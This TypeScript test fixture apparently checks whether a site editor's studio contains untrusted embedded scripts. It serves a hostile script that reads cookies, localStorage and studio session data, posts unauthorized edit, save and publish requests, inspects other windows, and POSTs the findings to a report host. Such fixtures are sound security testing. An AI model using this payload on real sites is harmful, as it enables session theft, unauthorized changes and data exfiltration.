/** A script of another site, which a block of a stranger names, and what it finds out. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'

/** What the script could read, or why not, by what it tried. */
type Report = Record<string, string>

export type HostileSite = {
  host: string
  /** The block that names the script, as YAML in a list of blocks. */
  block: string
  /** How often it was loaded. */
  loads: () => number
  reports: Report[]
  close: () => void
}

/** Runs in the page: tries what would give it the rights of the one who looks at the page. */
async function attack(report: string) {
  const attempt = async (act: () => unknown) => {
    try {
      return String(await act())
    } catch (error) {
      return String(error)
    }
  }
  const read = (path: string, init?: RequestInit) => async () => {
    const answer = await fetch(path, { credentials: 'include', ...init })
    return `${answer.status} ${answer.url} ${await answer.text()}`
  }
  const post = (name: string, body: object) =>
    read(`/__studio/api/${name}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
  const lookInto = (view: Window) => () => {
    const { document, localStorage } = view as Window & { localStorage: Storage }
    return `${document.documentElement.outerHTML} ${JSON.stringify(localStorage)}`
  }
  const operation = { kind: 'remove', file: 'pages/shop.yaml', path: ['pages', '/bread'] }
  const frame = document.createElement('iframe')
  frame.src = '/__studio/'
  document.body.append(frame)
  const tab = window.open('/__studio/')
  await new Promise((resolve) => setTimeout(resolve, 1000))
  const found = {
    cookies: await attempt(() => document.cookie),
    storage: await attempt(() => JSON.stringify(localStorage)),
    document: await attempt(read('/__studio/')),
    session: await attempt(read('/__studio/api/session')),
    edit: await attempt(post('edits', { version: 1, operations: [operation] })),
    save: await attempt(post('save', { version: 1 })),
    publish: await attempt(post('propose', { id: '', files: [], subject: 'Mine', publish: true })),
    frame: await attempt(lookInto(frame.contentWindow!)),
    tab: tab ? await attempt(lookInto(tab)) : 'closed',
    parent: parent === window ? 'none' : await attempt(lookInto(parent)),
  }
  tab?.close()
  await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
}

export async function startHostileSite(): Promise<HostileSite> {
  let loads = 0
  const reports: Report[] = []
  const server: Server = createServer((request, response) => {
    if (request.method === 'POST') {
      let text = ''
      request.on('data', (part) => void (text += part))
      request.on('end', () => void reports.push(JSON.parse(text)))
      return void response.end()
    }
    loads++
    response.setHeader('content-type', 'text/javascript')
    response.end(`const __name = (f) => f;(${attack})('http://${request.headers.host}/report')`)
  })
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve))
  const host = `localhost:${(server.address() as AddressInfo).port}`
  return {
    host,
    block: `- { type: booking-widget, heading: Book, service: bread, script: 'http://${host}/x.js', contact: Call us, loading: Wait, failed: Call }`,
    loads: () => loads,
    reports,
    close: () => server.close(),
  }
}
